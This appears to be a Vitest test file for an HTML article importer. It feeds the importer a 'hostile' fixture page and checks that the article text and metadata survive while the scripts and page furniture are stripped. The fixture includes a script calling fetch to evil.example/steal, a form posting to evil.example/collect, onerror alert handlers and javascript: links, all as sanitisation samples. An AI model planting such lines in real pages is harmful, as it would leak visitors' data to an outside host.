import { describe, expect, it } from 'vitest';
import { extractFile } from './index.ts';

const para = (n: number) =>
  `Paragraph ${n} of the article: the officials described the sequence of events at the base in some detail, and the reporters compared their account with what witnesses had said during the day.`;

const hostile = `<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<title>Harbour strike report | Example Gazette</title>
<meta property="og:title" content="Harbour strike leaves port closed">
<meta property="og:site_name" content="Example Gazette">
<meta property="article:published_time" content="2021-06-04T07:30:00+02:00">
<meta name="author" content="Jane Roe">
<link rel="canonical" href="https://gazette.example/harbour-strike">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Harbour strike leaves port closed","datePublished":"2021-06-04T07:30:00+02:00","author":[{"@type":"Person","name":"Jane Roe"},{"@type":"Person","name":"John Doe"}],"publisher":{"@type":"Organization","name":"Example Gazette"}}</script>
<script>document.write('INJECTED-BY-SCRIPT'); fetch('https://evil.example/steal');</script>
<style>body { background: url(https://evil.example/track.png) } .x:after { content: 'STYLE-TEXT' }</style>
</head>
<body onload="alert('ONLOAD-HANDLER')">
<div class="cookie-banner" role="dialog">We use cookies to improve your experience. <button onclick="accept()">Accept all</button></div>
<nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article>
  <h1>Harbour strike leaves port closed</h1>
  <div class="share-buttons"><a href="https://facebook.com/share">Share on Facebook</a> <a href="javascript:alert('JS-LINK')">Share on Twitter</a></div>
  <p>${para(1)}</p>
  <p>${para(2)} <img src="x" onerror="alert('ONERROR-HANDLER')"> <a href="javascript:void(0)" onclick="steal()">a linked phrase</a> ends here.</p>
  <iframe src="https://evil.example/frame" title="IFRAME-TITLE">IFRAME-FALLBACK</iframe>
  <p>${para(3)}<br>A second line after a break.</p>
  <div class="newsletter-box"><h3>Sign up for our newsletter</h3><form action="https://evil.example/collect"><input name="email" placeholder="EMAIL-PLACEHOLDER"><button>Subscribe</button></form></div>
  <p>${para(4)}</p>
  <noscript>NOSCRIPT-TEXT</noscript>
  <svg><text>SVG-TEXT</text></svg>
</article>
<section id="comments" class="comments-area"><h3>Leave a Reply</h3><p>Your email address will not be published.</p>
<form><textarea>COMMENT-BOX</textarea><button>Post Comment</button></form></section>
<footer>FOOTER-TEXT © 2021 Example Gazette</footer>
<div hidden>HIDDEN-TEXT</div>
</body></html>`;

const enc = (s: string) => new TextEncoder().encode(s);

describe('HTML import', () => {
  it('keeps the article paragraphs and none of the page furniture or active content', async () => {
    const r = await extractFile('harbour.html', enc(hostile));
    expect(r.kind).toBe('html');
    for (let n = 1; n <= 4; n++) expect(r.text).toContain(para(n));
    expect(r.text).toContain('a linked phrase ends here.');
    expect(r.text).toContain(`${para(3)}\nA second line after a break.`);
    // Paragraphs, not one run-on block.
    expect(r.text).toContain(`${para(1)}\n\n${para(2)}`);
    for (const bad of [
      'INJECTED',
      'evil.example',
      'STYLE-TEXT',
      'ONLOAD',
      'ONERROR',
      'alert',
      'javascript',
      'JS-LINK',
      'IFRAME',
      'cookies',
      'Accept all',
      'Share on',
      'newsletter',
      'EMAIL-PLACEHOLDER',
      'Subscribe',
      'NOSCRIPT',
      'SVG-TEXT',
      'Leave a Reply',
      'will not be published',
      'COMMENT-BOX',
      'Post Comment',
      'FOOTER-TEXT',
      'HIDDEN-TEXT',
      '<',
      '>',
      'onclick',
      'onerror',
    ])
      expect(r.text, bad).not.toContain(bad);
  });

  it('reads declared metadata: og, article:published_time, JSON-LD authors, canonical URL', async () => {
    const r = await extractFile('harbour.html', enc(hostile));
    expect(r.title).toMatchObject({ value: 'Harbour strike leaves port closed', confidence: 'high', how: 'meta og:title' });
    expect(r.outlet).toMatchObject({ value: 'Example Gazette', confidence: 'high', how: 'meta og:site_name' });
    expect(r.published).toMatchObject({
      value: { date: '2021-06-04', precision: 'day', time: '07:30', timezone: '+02:00' },
      confidence: 'high',
      how: 'meta article:published_time',
    });
    expect(r.authors).toMatchObject({ value: ['Jane Roe', 'John Doe'], how: 'JSON-LD author' });
    expect(r.url).toBe('https://gazette.example/harbour-strike');
    expect(r.language).toBe('en');
    expect(r.independenceGroup).toBe('Example Gazette');
  });

  it('falls back to text rules when a page declares nothing', async () => {
    const page = `<html><body><p>Tuesday, May 6, 2025</p><h1>Bridge reopens after repairs</h1><p>April 30, 2025</p><p>By Ann Example</p>${[1, 2, 3].map((n) => `<p>${para(n)}</p>`).join('')}</body></html>`;
    const r = await extractFile('bridge.htm', enc(page));
    expect(r.title.value).toBe('Bridge reopens after repairs');
    expect(r.published.value.date).toBe('2025-04-30');
    expect(r.authors.value).toEqual(['Ann Example']);
  });

  it('honours a declared Windows-1252 charset', async () => {
    const bytes = Uint8Array.from([
      ...enc('<html><head><meta charset="windows-1252"></head><body><h1>Caf'),
      0xe9,
      ...enc(' owner speaks</h1><p>'),
      0x93,
      ...enc(`We stayed open,`),
      0x94,
      ...enc(` she said. ${para(1)}</p></body></html>`),
    ]);
    const r = await extractFile('cafe.html', bytes);
    expect(r.text).toContain('Café owner speaks');
    expect(r.text).toContain('“We stayed open,”');
  });

  it('refuses a page with no article text, with a clear message', async () => {
    const page =
      '<html><head><script>var a = "lots of code";</script><style>p{}</style></head><body><script>render()</script><div id="app"></div></body></html>';
    await expect(extractFile('app.html', enc(page))).rejects.toMatchObject({ code: 'EMPTY_FILE', message: expect.stringMatching(/no article text/) });
  });
});
